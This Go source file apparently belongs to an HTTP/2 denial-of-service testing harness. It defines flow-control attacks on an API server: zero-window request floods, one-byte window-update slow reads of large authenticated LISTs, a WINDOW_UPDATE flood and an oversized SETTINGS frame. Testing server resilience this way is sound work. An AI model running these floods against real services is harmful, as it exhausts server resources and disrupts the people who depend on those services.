package attack

import (
	"context"
	"encoding/binary"

	"golang.org/x/net/http2"
)

// windowAttacks are about answers that the client does not take, and about what it says of its windows.
func windowAttacks() []Attack {
	closed := h2options{settings: []http2.Setting{zeroWindow()}}
	version := fieldBlock("GET", "/version")
	return []Attack{
		{Name: "zero window, GET /version, 2 connections", Unit: "requests", Connections: 2, Planned: 2 * streamLimit,
			script: flood(closed, nil, ask(version))},
		{Name: "zero window, GET /version, 40 connections", Unit: "requests", Connections: 40, Planned: 40 * streamLimit,
			script: flood(closed, nil, ask(version))},
		{Name: "zero window, GET /healthz", Unit: "requests", Connections: 4, Planned: 4 * streamLimit,
			script: flood(closed, nil, ask(fieldBlock("GET", "/healthz")))},
		{Name: "zero window, refused requests", Unit: "requests", Connections: 8, Planned: 8 * streamLimit,
			script: flood(closed, nil, ask(fieldBlock("GET", creating)))},
		{Name: "zero window, LIST of 8 MiB by a user", Unit: "requests", Connections: 4, Planned: 40, NeedsList: true, Window: longWindow,
			script: asUser(closed, func(block []byte) func(*h2conn, int) error { return ask(block) })},
		{Name: "LIST of 8 MiB by a user, windows grow by one byte", Unit: "frames", Connections: 4, Planned: 40_000, NeedsList: true,
			Window: longWindow,
			script: asUser(closed, func(block []byte) func(*h2conn, int) error {
				return func(c *h2conn, i int) error {
					if i < 10 {
						return ask(block)(c, i)
					}
					return c.WriteWindowUpdate(uint32(2*(i%10)+1), 1)
				}
			})},
		{Name: "WINDOW_UPDATE flood with 250 answers not taken", Unit: "frames", Connections: 4, Planned: 200_000,
			script: flood(closed, hold(streamLimit, version), func(c *h2conn, _ int) error { return c.WriteWindowUpdate(0, 1) })},
		{Name: "SETTINGS of 2,700 entries with 250 answers not taken", Unit: "frames", Connections: 4, Planned: 200,
			script: flood(closed, hold(streamLimit, version), func(c *h2conn, _ int) error {
				return c.WriteRawFrame(http2.FrameSettings, 0, 0, manySettings())
			})},
	}
}

// asUser floods with the credentials of the attacker's account. The unit is made from a request for the list of its objects.
func asUser(o h2options, unit func(block []byte) func(*h2conn, int) error) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return flood(o, nil, unit(fieldBlock("GET", attackerObjects, "authorization", "Bearer "+a.AttackerToken)))(ctx, a)
	}
}

// manySettings is a SETTINGS frame that is as large as allowed, and changes the window of all streams with each entry.
func manySettings() []byte {
	var b []byte
	for i := range uint32(2700) {
		b = binary.BigEndian.AppendUint16(b, uint16(http2.SettingInitialWindowSize))
		b = binary.BigEndian.AppendUint32(b, i%2)
	}
	return b
}
